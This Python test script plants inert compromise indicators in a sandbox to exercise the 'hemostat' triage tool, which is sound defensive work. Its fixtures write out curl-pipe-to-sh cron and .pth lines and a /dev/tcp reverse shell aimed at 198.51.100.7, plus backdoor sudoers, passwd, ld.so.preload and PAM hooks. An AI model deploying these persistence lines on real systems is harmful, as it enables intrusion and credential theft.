"""Runs inside the sandbox, from standard input: plants signs, examines twice, prints both.

Standard output: one JSON object. `live` is what `hemostat triage --json` says of the running
sandbox, `stream` what the collector's script sends of it, in base64. The signs are inert: copies
of `sleep`, sockets of loopback, texts that name addresses of RFC 5737.
"""

import base64
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

HEMOSTAT = (sys.executable, "-B", "-m", "hemostat")
# The test writes these in: files to put beforehand, the script, and whether it goes over SSH.
FILES: dict[str, bytes] = {}
SCRIPT = b""
OVER_SSH = False


def plant_files() -> None:
    """One sign for each mechanism, in new files or behind what is there."""
    put("/etc/cron.d/sync", "*/5 * * * * root curl -s http://198.51.100.7/a | sh\n")
    put(
        "/etc/systemd/system/netd.service",
        "[Service]\nExecStart=/var/tmp/.cache/netd -k\n[Install]\nWantedBy=multi-user.target\n",
    )
    wants = Path("/etc/systemd/system/multi-user.target.wants/netd.service")
    wants.parent.mkdir(parents=True, exist_ok=True)
    wants.symlink_to("/etc/systemd/system/netd.service")
    put_copy("/bin/sleep", "/var/tmp/.cache/netd")
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHVuZGVyLXRlc3QtMDEyMzQ1Njc4OTAxMjM0 x@y\n"
    put("/var/www/.ssh/authorized_keys", key)
    put("/etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    put_copy("/usr/lib/x86_64-linux-gnu/libz.so.1", "/usr/local/lib/libsec.so")
    put("/etc/ld.so.preload", "/usr/local/lib/libsec.so\n")
    append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet /var/tmp/.cache/p.sh\n")
    put("/var/tmp/.cache/p.sh", "#!/bin/sh\ncat >>/var/tmp/.cache/l\n", 0o755)
    put("/etc/profile.d/zz.sh", "(bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &)\n")
    site = Path("/usr/lib/python3/dist-packages")
    put(str(site / "zz.pth"), "import os; os.system('curl -s http://198.51.100.7/p|sh')\n")
    append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
    put_copy("/bin/dash", "/var/tmp/.cache/su", 0o4755)


def plant_processes() -> list[subprocess.Popen[bytes]]:
    """A deleted program, one in memory alone, one with a preload, and a shell on a socket."""
    put_copy("/bin/sleep", "/tmp/.x")
    started = [spawn("/tmp/.x", "9999")]
    memory = os.memfd_create("kworker")
    os.write(memory, Path("/bin/sleep").read_bytes())
    started.append(spawn(f"/proc/self/fd/{memory}", "9999", fds=(memory,)))
    os.close(memory)
    put_copy("/usr/lib/x86_64-linux-gnu/libz.so.1", "/dev/shm/libz.so")
    started.append(spawn("/bin/sleep", "9999", LD_PRELOAD="/dev/shm/libz.so"))
    ours, theirs = socket.socketpair()
    started.append(spawn("/bin/dash", stream=theirs.fileno()))
    os.set_inheritable(ours.fileno(), False)
    listening = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listening.getsockname())
    accepted = listening.accept()[0]
    started.append(spawn("/bin/bash", "-i", stream=client.fileno()))
    # The other ends stay open, or the shells would end.
    KEPT.extend((ours, accepted, listening))
    started.append(spawn("/var/tmp/.cache/netd", "9999"))
    Path("/tmp/.x").unlink()
    return started


KEPT: list[socket.socket] = []


def spawn(
    path: str, *words: str, stream: int = subprocess.DEVNULL, fds: tuple[int, ...] = (), **env: str
) -> subprocess.Popen[bytes]:
    """One process, past its exec when this returns: Popen waits for that."""
    return subprocess.Popen(
        [path, *words],
        stdin=stream,
        stdout=stream,
        stderr=stream,
        pass_fds=fds,
        env={"PATH": "/usr/bin:/bin", **env},
        start_new_session=True,
    )


def put(path: str, text: str, mode: int = 0o644) -> None:
    """A file, its folders with it."""
    file = Path(path)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    file.chmod(mode)


def append(path: str, text: str) -> None:
    """Text behind what is there."""
    with Path(path).open("a") as out:
        out.write(text)


def put_copy(source: str, path: str, mode: int = 0o755) -> None:
    """A program of the host, under another name and with bytes no package knows."""
    file = Path(path)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(Path(source).read_bytes() + b"\0planted\0")
    file.chmod(mode)


def look_over_ssh() -> tuple[str, ...]:
    """Start the host's own sshd on loopback; the command that runs a shell through it."""
    Path("/run/sshd").mkdir()
    key = "/tmp/key"
    subprocess.run(("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key), check=True)
    options = ("PidFile=none", "UsePAM=no", "StrictModes=no", f"AuthorizedKeysFile={key}.pub")
    words = [word for option in options for word in ("-o", option)]
    server = subprocess.Popen(
        ("/usr/sbin/sshd", "-D", "-e", "-f", "/etc/ssh/sshd_config", *words), stderr=subprocess.PIPE
    )
    assert server.stderr
    for line in server.stderr:
        if b"listening" in line.lower():
            break
    asks = ("BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null")
    words = [word for option in asks for word in ("-o", option)]
    return ("ssh", "-q", "-F", "none", "-i", key, *words, "root@127.0.0.1", "sh -s")


def main() -> int:
    """Plant, look both ways."""
    if not os.environ.get("HEMOSTAT_SANDBOX"):
        return 2
    for path, content in FILES.items():
        Path(path).write_bytes(content)
    plant_files()
    started = plant_processes()
    command = look_over_ssh() if OVER_SSH else ("/bin/sh", "-s")
    # It waits for its script while we look, so that both see the connection.
    sender = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    triage = (*HEMOSTAT, "triage", "--json", "--seconds", "90")
    live = subprocess.run(triage, stdout=subprocess.PIPE, check=False)
    sent, _ = sender.communicate(SCRIPT)
    gone = [each.args for each in started if each.poll() is not None]
    stream = base64.b64encode(sent).decode()
    json.dump({"live": json.loads(live.stdout), "stream": stream, "gone": gone}, sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
